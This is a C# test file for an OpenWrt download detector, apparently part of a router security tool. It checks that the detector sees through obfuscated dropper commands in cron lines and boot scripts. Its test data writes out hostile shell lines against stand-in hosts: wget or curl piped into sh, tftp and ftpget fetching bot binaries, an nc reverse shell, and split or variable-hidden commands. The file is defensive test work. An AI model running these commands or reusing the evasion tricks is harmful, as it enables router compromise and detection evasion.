using FlaxGuard.Engine.Crypto;
using FlaxGuard.Engine.Probes.OpenWrt;

namespace FlaxGuard.Engine.Tests.OpenWrt;

/// <summary>
/// Download detection in cron lines and boot scripts sees through the ways droppers hide a download: quoting and
/// concatenation, variables, busybox applets, tftp/ftpget/nc, pipes into a shell and scripts sourced from /tmp.
/// Ordinary commands are not downloads.
/// </summary>
[TestClass]
public sealed class ShellFetchTests
{
    [TestMethod]
    [DataRow("wget http://203.0.113.7/x.sh -O /tmp/x.sh", "203.0.113.7")]
    [DataRow("u=http://203.0.113.7/m; wget $u", "203.0.113.7")]
    [DataRow("u=http://203.0.113.7/m; wget ${u}", "203.0.113.7")]
    [DataRow("\"wg\"\"et\" -q http://Evil.Example:8080/a", "evil.example")]
    [DataRow("'cu'rl -s https://user@198.51.100.2/p | sh", "198.51.100.2")]
    [DataRow("c=wg; ${c}et http://203.0.113.9/", "203.0.113.9")]
    [DataRow("w\\get http://203.0.113.10/", "203.0.113.10")]
    [DataRow("curl|sh", "unknown")]
    [DataRow("busybox wget http://203.0.113.11/b", "203.0.113.11")]
    [DataRow("/usr/bin/uclient-fetch -q -O - https://[2001:db8::5]:443/x", "2001:db8::5")]
    [DataRow("cd /tmp && busybox tftp -g -r mips -l .s 198.51.100.9", "198.51.100.9")]
    [DataRow("ftpget -u anonymous -p x 198.51.100.12 bot bot", "198.51.100.12")]
    [DataRow("nc 198.51.100.13 4444 -e /bin/sh", "198.51.100.13")]
    [DataRow(". /tmp/x.sh", "file:/tmp/x.sh")]
    [DataRow("source /var/run/.a", "file:/var/run/.a")]
    [DataRow("sleep 5; sh /tmp/.s &", "file:/tmp/.s")]
    [DataRow("(sleep 60; /tmp/.s) &", "file:/tmp/.s")]
    [DataRow("x=$(wget -qO- http://203.0.113.14/c)", "203.0.113.14")]
    [DataRow("nohup wget http://203.0.113.15/ >/dev/null 2>&1 &", "203.0.113.15")]
    public void Download_IsFound(string line, string host)
    {
        Assert.AreEqual(host, new ShellFetch().ReadLine(line), line);
    }

    [TestMethod]
    [DataRow("sleep 70 && touch /etc/banner && reboot")]
    [DataRow("/etc/init.d/dnsmasq restart")]
    [DataRow("echo wget is not run here > /dev/null")]
    [DataRow("logger -t cron \"backup done\"")]
    [DataRow("ls /tmp")]
    [DataRow("")]
    public void OrdinaryCommand_IsNoDownload(string line)
    {
        Assert.IsNull(new ShellFetch().ReadLine(line), line);
    }

    [TestMethod]
    public void VariablesCarryAcrossLines_OfOneScript()
    {
        var script = "#!/bin/sh\nH=203.0.113.20\nP=/bin/x\n# comment wget http://198.51.100.1/\nT=\"wg\"\nsleep 3\n${T}et http://$H$P\nexit 0\n";
        Assert.AreEqual("203.0.113.20", new ShellFetch().ReadScript(script));
    }

    [TestMethod]
    public void Bounds_HoldForHostileText()
    {
        var fetch = new ShellFetch();
        // Many assignments: only MaxVariables are kept, and nothing grows without bound.
        for (var i = 0; i < 500; i++) fetch.ReadLine($"v{i}=http://203.0.113.{i % 250}/");
        Assert.AreEqual("unknown", fetch.ReadLine("wget $v499"), "the 500th variable was not kept");
        Assert.AreEqual("203.0.113.31", fetch.ReadLine("wget $v31"), "the first 32 were");
        // A variable that refers to itself does not expand forever.
        fetch.Reset();
        fetch.ReadLine("a=$a$a$a$a$a$a$a$a");
        for (var i = 0; i < 20; i++) fetch.ReadLine("a=$a$a$a$a");
        Assert.IsNull(fetch.ReadLine("echo $a"));
        var host = new ShellFetch().ReadLine("wget " + new string('a', 100_000));
        Assert.IsNotNull(host);
        Assert.IsLessThanOrEqualTo(100, host.Length);
    }
    [TestMethod]
    [DataRow("wget \"http://203.0.113.30/a b\"", "203.0.113.30")]
    [DataRow("w'g'e\"t\" 'http://203.0.113.31/'", "203.0.113.31")]
    [DataRow("wget \\\"http://203.0.113.32/\\\"", "203.0.113.32")]
    [DataRow("echo `wget http://203.0.113.33/`", "203.0.113.33")]
    [DataRow("echo $(curl -s http://203.0.113.34/) | sh", "203.0.113.34")]
    [DataRow("\twget\thttp://203.0.113.35/", "203.0.113.35")]
    [DataRow("u='http://203.0.113.36/'; d=\"$u\"; wget \"${d}x\"", "203.0.113.36")]
    [DataRow("u=http://203.0.113.37/; wget ${u:-http://198.51.100.50/}", "203.0.113.37")]
    [DataRow("x=$; wget http://203.0.113.38/$x", "203.0.113.38")]
    public void QuotesEscapesAndExpansion_AreSeenThrough(string line, string host)
    {
        Assert.AreEqual(host, new ShellFetch().ReadLine(line), line);
    }

    [TestMethod]
    [DataRow("wget http://")]
    [DataRow("curl x://")]
    [DataRow("wget http://@")]
    [DataRow("wget http://user@/path")]
    [DataRow("wget http://:8080/")]
    [DataRow("tftp -g -r")]
    public void ADownloadWithoutAHost_IsUnknown_NotACrash(string line)
    {
        // "wget http://" used to throw ArgumentOutOfRangeException looking for '@' past the end of the word.
        Assert.AreEqual("unknown", new ShellFetch().ReadLine(line), line);
    }

    [TestMethod]
    public void LastLineWithoutNewline_AndCrLfLines_AreRead()
    {
        Assert.AreEqual("203.0.113.40", new ShellFetch().ReadScript("sleep 1\nwget http://203.0.113.40/x"));
        Assert.AreEqual("203.0.113.41", new ShellFetch().ReadScript("H=203.0.113.41\r\nsleep 1\r\nwget http://$H/x\r\n"));
        Assert.IsNull(new ShellFetch().ReadScript(""));
        Assert.IsNull(new ShellFetch().ReadScript("\n\n# only comments\n"));
    }

    [TestMethod]
    public void ARange_IsReadWithoutTheTextAroundIt()
    {
        var text = "wget http://198.51.100.60/ ; curl http://203.0.113.42/ ; wget http://198.51.100.61/";
        var start = text.IndexOf("curl", StringComparison.Ordinal);
        var end = text.IndexOf(" ;", start, StringComparison.Ordinal);
        Assert.AreEqual("203.0.113.42", new ShellFetch().ReadLine(text, start, end, false));
        // Bounds outside the text are no line at all.
        Assert.IsNull(new ShellFetch().ReadLine(text, -1, 4, false));
        Assert.IsNull(new ShellFetch().ReadLine(text, 0, text.Length + 1, false));
        Assert.IsNull(new ShellFetch().ReadLine(text, 10, 5, false));
        Assert.IsNull(new ShellFetch().ReadLine(null, 0, 0, false));
    }

    [TestMethod]
    public void ACarriageReturn_EndsACommand_UnlessBlanksWereCollapsed()
    {
        var line = "wget\rhttp://203.0.113.43/";
        Assert.AreEqual("unknown", new ShellFetch().ReadLine(line, 0, line.Length, false));
        Assert.AreEqual("203.0.113.43", new ShellFetch().ReadLine(line, 0, line.Length, true));
    }

    [TestMethod]
    public void VeryLongLines_AreCutAtTheLimit()
    {
        // A download before the limit is found; one only after MaxLineChars characters is not read at all.
        var pad = new string('x', ShellFetch.MaxLineChars);
        Assert.AreEqual("203.0.113.44", new ShellFetch().ReadLine("wget http://203.0.113.44/ " + pad));
        Assert.IsNull(new ShellFetch().ReadLine("echo " + pad + "; wget http://203.0.113.45/"));
        // A host longer than a fact may hold is cut to 100 characters, control characters in it made blanks.
        Assert.AreEqual(new string('h', 100), new ShellFetch().ReadLine("wget http://" + new string('H', 5000) + "/"));
        Assert.AreEqual("a b", new ShellFetch().ReadLine("wget http://\u0001A\u0001\u0002B\u0001/"));
        Assert.AreEqual("file:/tmp/" + new string('x', 95), new ShellFetch().ReadLine(". /tmp/" + new string('x', 200)));
        // Expansion stops at the limit: a variable doubled again and again never grows a command past it.
        var fetch = new ShellFetch();
        fetch.ReadLine("a=" + new string('a', 3000));
        for (var i = 0; i < 10; i++) fetch.ReadLine("a=$a$a$a");
        Assert.AreEqual("203.0.113.46", fetch.ReadLine("wget http://203.0.113.46/$a$a"));
        Assert.AreEqual("203.0.113.47", fetch.ReadLine("echo $a$a$a$a; wget http://203.0.113.47/"), "each command of a line is expanded within its own bound");
    }

    [TestMethod]
    public void ManyWords_OnlyTheFirst64AreRead()
    {
        var options = string.Concat(Enumerable.Repeat("-q ", ShellFetch.MaxWords));
        Assert.AreEqual("unknown", new ShellFetch().ReadLine("wget " + options + "http://203.0.113.48/"));
        Assert.AreEqual("203.0.113.49", new ShellFetch().ReadLine("wget " + string.Concat(Enumerable.Repeat("-q ", 10)) + "http://203.0.113.49/"));
    }

    [TestMethod]
    public void Reset_ForgetsTheVariablesOfTheScriptBefore()
    {
        var fetch = new ShellFetch();
        Assert.IsNull(fetch.ReadScript("U=http://203.0.113.50/\n"));
        Assert.AreEqual("203.0.113.50", fetch.ReadLine("wget $U"));
        fetch.Reset();
        Assert.IsNull(fetch.Found);
        Assert.AreEqual("unknown", fetch.ReadLine("wget $U"));
    }

    [TestMethod]
    public void ScriptsOfOneRun_DoNotShareVariables()
    {
        // One sheet reads the crontab, then rc.local with the same download finder: the crontab's SRC is not rc.local's.
        var facts = OpenWrtSheetFacts.Of(s =>
        {
            ScriptFacts.ReadCrontab("SRC=http://203.0.113.51/\n* * * * * wget $SRC\n", s);
            ScriptFacts.ReadBootScript("wget $SRC\nexit 0\n", "rc.local", s);
        });
        Assert.IsTrue(facts.Any(f => f.Key.StartsWith("cfg.scheduler.cron.", StringComparison.Ordinal) && f.Key.EndsWith(".fetch", StringComparison.Ordinal) && f.Value == "203.0.113.51"));
        Assert.AreEqual("unknown", facts["cfg.scheduler.rc.local.fetch"]);
    }

    [TestMethod]
    [DataRow("echo a\n\tsleep   1 \r\nexit 0\n# c\nlogger \"x  y\"\n")]
    [DataRow("caf\u00e9 \u00e9t\u00e9\t\ud83d\ude00 x\n  \u65e5\u672c\u8a9e   y  \n")]
    [DataRow("a\u00a0b\n\u00a0lead\nlast-without-newline")]
    public void ScriptDigest_IsTheDigestOfItsCollapsedLines(string script)
    {
        // The digest is made word by word from the text; it must equal the digest of the collapsed lines it stands for.
        var expected = new TextDigest().Start();
        var commands = 0;
        foreach (var raw in script.Split('\n'))
        {
            var line = raw.Trim();
            if (line.Length == 0 || line[0] == '#' || line == "exit 0") continue;
            expected.Add(ScriptFacts.Collapse(line)).Add("\n");
            commands++;
        }
        Assert.IsGreaterThan(0, commands);
        var facts = OpenWrtSheetFacts.Of(s => ScriptFacts.ReadScript(script, "k", s));
        Assert.AreEqual(expected.FinishHex16(), facts["k"]);
    }

    [TestMethod]
    public void CronId_IsTheDigestOfTheCollapsedCommand()
    {
        var facts = OpenWrtSheetFacts.Of(s => ScriptFacts.ReadCrontab("*/5\t*  * * *   /usr/bin/caf\u00e9\t --now \r\n", s));
        var id = "cfg.scheduler.cron." + new TextDigest().Hex16("/usr/bin/caf\u00e9 --now");
        Assert.AreEqual("*/5 * * * *", facts[id], string.Join("\n", facts));
    }
}
